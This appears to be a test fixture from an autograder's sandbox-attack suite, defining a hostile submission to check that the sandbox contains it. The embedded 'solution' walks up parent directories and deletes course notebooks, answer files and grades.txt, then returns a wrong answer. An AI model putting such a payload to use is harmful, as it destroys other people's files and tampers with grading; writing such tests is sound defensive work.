"""Deletes the toy course wherever it can be reached.

The course is not in the sandbox.
"""

from tests.autograder.attacks.tools import BOXED, answered, write

KIND = "harm"
ITEM = "files"
SCORES = {"double": 0, "count": 1}
STATUS = "graded"
DOUBLE = (
    BOXED
    + """
import time

until = time.monotonic() + 1.5
for up in range(7):
    for place, folders, names in os.walk(os.path.join(*[".."] * up, ".")):
        if time.monotonic() > until:
            break
        for name in {"toy.ipynb", "wrong_answers.py", "grades.txt"} & set(names):
            if place.endswith("toy") or name == "grades.txt":
                with suppress(OSError):
                    os.remove(os.path.join(place, name))

def double(x):
    return x
"""
)


def hand_in(folder, released):
    write(folder, answered(released, double_solution=DOUBLE))
